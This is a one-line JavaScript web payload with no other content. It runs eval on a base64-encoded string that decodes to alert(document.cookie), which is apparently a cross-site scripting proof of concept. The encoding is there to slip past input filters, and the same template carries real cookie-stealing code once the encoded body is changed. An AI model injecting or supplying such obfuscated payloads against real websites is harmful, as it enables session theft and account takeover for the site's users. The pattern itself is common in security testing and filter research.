eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))
